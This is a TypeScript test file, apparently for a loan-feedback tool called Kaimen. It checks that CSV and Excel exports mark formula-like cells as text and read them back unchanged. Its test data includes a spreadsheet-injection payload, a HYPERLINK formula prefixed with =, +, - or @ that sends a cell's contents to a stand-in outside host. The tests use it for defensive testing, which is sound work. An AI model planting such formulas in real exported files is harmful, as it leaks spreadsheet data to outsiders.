import { execFile } from "node:child_process";
import { readFile, writeFile } from "node:fs/promises";
import { join } from "node:path";
import { promisify } from "node:util";
import fc from "fast-check";
import { afterAll, beforeAll, describe, expect, it } from "vitest";
import {
  csvOf,
  feedbackFileOf,
  tableOfCsv,
  readWorkbook,
  tableWorkbook,
  templateWorkbook,
  type Table,
} from "#kaimen/feedback/templates/table-files.ts";
import { textOfCell } from "#kaimen/feedback/templates/table-cell.ts";
import { loanTemplate } from "#kaimen/feedback/templates/loan.ts";
import { type FeedbackRow, fileOf, recentMonths, recordOf, testPerson } from "../support/feedback-data.ts";
import { type RunningKaimen, startKaimen } from "../support/kaimen.ts";

fc.configureGlobal(process.env["KAIMEN_SEED"] === undefined ? {} : { seed: Number(process.env["KAIMEN_SEED"]) });

const formula = 'HYPERLINK("https://elsewhere.example/?"&A1,"点此")';
const signs = ["=", "+", "-", "@", "＝", "＋", "－", "＠", "﹦", "﹢", "﹣", "﹫"];
const leads = ["", " ", "  ", "\u3000", "\u00a0", "\ufeff", '"', "'", "\"'", "\t", "\r", "\n", "\r\n", " \t"];
/** Cells that some spreadsheet would compute or split, each after all that may stand before it. */
const computed = [
  ...leads.flatMap((lead) => signs.map((sign) => `${lead}${sign}${formula}`)),
  "\tx",
  "\rx",
  "\nx",
  "'\tx",
  "''=1",
  "=",
  "-",
  "-1+1",
  "-1.",
  "+1",
  "@x",
  "--1",
  "-1,2",
];
/** And those that are text or a number as they are, and stay so. */
const harmless = [
  "张三",
  "",
  "0",
  "-5",
  "-5.00",
  "12.5",
  "a=b",
  "a\tb",
  "'",
  "'张三",
  "''",
  "_=",
  "2026-10",
  "990000199003070013",
  "(=1)",
  'a,b\n"c"',
];

const tableOf = (values: readonly string[]): Table => ({
  header: ["order_no", ...values.slice(0, 3), "_record"],
  rows: values.map((value, index) => [value, value, "", "", String(index)]),
});

/** How a spreadsheet sees the CSV, read on its own: RFC 4180, no more. */
function cellsOf(csv: string): string[] {
  return [...csv.replace(/^\ufeff/, "").matchAll(/(?:^|,|\r\n)(?:"((?:[^"]|"")*)"|([^,\r\n"]*))/g)].map(
    ([, quoted, plain]) => quoted?.replaceAll('""', '"') ?? plain ?? "",
  );
}

/** The apostrophe is the only start that makes a cell text for certain; a letter, a digit or a plain number needs none. */
const startsSafely = (cell: string): boolean =>
  cell.startsWith("'") || /^-?\d+(?:\.\d+)?$/.test(cell) || !/^[\s"']*[=+\-@＝＋－＠﹦﹢﹣﹫]|^[\t\r\n]/.test(cell);

describe("a table that Kaimen writes has no cell that a spreadsheet computes:", () => {
  it.each(computed.map((value) => [JSON.stringify(value), value]))(
    "%s is marked as text in CSV and in a workbook, and read back as it was",
    async (_, value) => {
      const table = tableOf([value]);
      const cells = cellsOf(csvOf(table));
      expect(cells).toContain(`'${value}`);
      expect(cells.filter((cell) => !startsSafely(cell))).toEqual([]);
      expect(textOfCell(`'${value}`)).toBe(value);
    },
  );

  it("what is no formula stays as it is", () => {
    expect(tableOfCsv(csvOf(tableOf(harmless))).rows.map(([first]) => first)).toEqual(harmless);
    expect(harmless.map(textOfCell)).toEqual(harmless);
  });

  it("a workbook's cells are text, none a formula, and hold what the CSV holds", async () => {
    const values = [...computed, ...harmless].map((value) => value.replaceAll(/\r\n?/g, "\n"));
    const read = await readWorkbook(await tableWorkbook(tableOf(values)));
    const shown = read.rows.map(([first = ""]) => first);
    expect(shown.filter((cell) => !startsSafely(cell))).toEqual([]);
    expect(shown.map(textOfCell)).toEqual(values);
  });

  it("whatever a cell holds, it is safe, and comes back from a mended table as it was", () => {
    const part = fc.oneof(fc.constantFrom(...leads, ...signs, "1", "x", ",", "中"), fc.string({ maxLength: 3 }));
    const value = fc.array(part, { maxLength: 6 }).map((parts) => parts.join(""));
    fc.assert(
      fc.property(fc.array(value, { minLength: 1, maxLength: 4 }), (values) => {
        const csv = csvOf({ header: ["a", "b", "c", "d"].slice(0, values.length), rows: [values] });
        expect(cellsOf(csv).filter((cell) => !startsSafely(cell))).toEqual([]);
        const [row = values] = tableOfCsv(csv).rows; // A row of nothing is none.
        for (const [index, value] of values.entries()) {
          const cell = row[index] ?? "";
          // Blanks around what is not marked are nobody's.
          if (cell === value) expect(textOfCell(cell)).toBe(value.trim());
          else expect([cell, textOfCell(cell)]).toEqual([`'${value}`, value]);
        }
      }),
      { numRuns: 500 },
    );
  });

  it("a template's workbook marks what an operator wrote into it", async () => {
    const evil = {
      ...loanTemplate,
      columns: loanTemplate.columns.map((column) => ({ ...column, doc: { zh: `=${formula}`, en: "=1" } })),
    };
    const book = await templateWorkbook(evil);
    expect((await readWorkbook(book)).header).toEqual(evil.columns.map(({ name }) => name));
    expect(book.includes("<f>")).toBe(false);
  });
});

describe("refused rows that a merchant mends and sends again", () => {
  let kaimen: RunningKaimen;
  beforeAll(async () => {
    kaimen = await startKaimen();
  });
  afterAll(() => kaimen.stop());

  const command = new URL("../../dist/cli/main.js", import.meta.url).pathname;
  const inData = (name: string): string => join(kaimen.dataDirectory, name);
  async function run(...words: string[]): Promise<string> {
    const env = { ...process.env, KAIMEN_DATA: kaimen.dataDirectory };
    return promisify(execFile)(process.execPath, [command, ...words], { env }).then(
      ({ stdout }) => stdout,
      ({ stdout }: { stdout: string }) => stdout,
    );
  }

  it(
    "hold no formula in CSV or a workbook, and come out of kaimen feedback convert as they were sent",
    { timeout: 60_000 },
    async () => {
      const month = recentMonths(1)[0] ?? "";
      const rows: FeedbackRow[] = computed.map((value, index) =>
        recordOf(testPerson(index + 1), month, { order_no: value, create_amt: value }),
      );
      await writeFile(inData("formulas.json"), fileOf(rows));
      const sent = await run("feedback", "send", inData("formulas.json"));
      const batchId = /batch ([0-9a-f-]{36})/.exec(sent)?.[1] ?? "";
      expect(sent).toContain("INVALID_PARAMETER");
      for (const format of ["csv", "xlsx"]) {
        await run("feedback", "errors", batchId, "--format", format, "--out", inData(`errors.${format}`));
        expect(
          await run("feedback", "convert", inData(`errors.${format}`), "--out", inData(`mended-${format}.json`)),
        ).toContain(`${rows.length} records`);
        const { records } = JSON.parse(await readFile(inData(`mended-${format}.json`), "utf8")) as {
          records: FeedbackRow[];
        };
        // A workbook's XML knows one kind of line end.
        const lineEnds = (text: string): string => (format === "csv" ? text : text.replaceAll(/\r\n?/g, "\n"));
        expect(records.map(({ order_no: orderNo }) => lineEnds(String(orderNo)))).toEqual(computed.map(lineEnds));
        expect(records.map(({ create_amt: amount }) => lineEnds(String(amount)))).toEqual(computed.map(lineEnds));
      }
      expect(cellsOf(await readFile(inData("errors.csv"), "utf8")).filter((cell) => !startsSafely(cell))).toEqual([]);
      expect(
        (await readWorkbook(await readFile(inData("errors.xlsx")))).rows.flat().filter((cell) => !startsSafely(cell)),
      ).toEqual([]);
      expect(feedbackFileOf(tableOfCsv(await readFile(inData("errors.csv"), "utf8"))).records).toBe(rows.length);
    },
  );
});
